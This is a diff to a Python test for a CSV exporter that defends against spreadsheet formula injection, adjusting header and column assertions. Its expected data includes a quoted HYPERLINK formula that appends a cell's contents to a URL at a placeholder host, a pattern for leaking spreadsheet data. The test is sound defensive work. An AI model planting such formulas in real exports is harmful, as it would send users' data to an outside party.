@@ -40,7 +40,7 @@ def test_formula_like_text_gets_a_quote_and_negative_numbers_stay_numbers(tmp_pa
     assert run.code == 0, run.err
     with (tmp_path / "out" / "injection-test-2023-01.csv").open(encoding="utf-8", newline="") as file:
         header, *rows = list(csv.reader(file))
-    assert header[-1] == "'@region"
+    assert header[-3:] == ["'@region", "'@region_year", "'@region_too_old"]
     titles = {row[0]: row[2] for row in rows}
     assert titles == {
         "A1": '\'=HYPERLINK("http://example.invalid/?q="&A2,"Click")',
@@ -54,7 +54,7 @@ def test_formula_like_text_gets_a_quote_and_negative_numbers_stay_numbers(tmp_pa
     assert (current["A1"], current["A2"], current["A3"]) == ("-5", "-5", "-0.5")
     a2, a3 = rows[1], rows[2]
     assert a2[header.index("target")] == "-5"
-    assert a3[-1] == "-7"
+    assert a3[header.index("'@region")] == "-7"
     assert not any(cell.startswith(("=", "+", "@", "\t")) for row in (header, *rows) for cell in row)
 
 
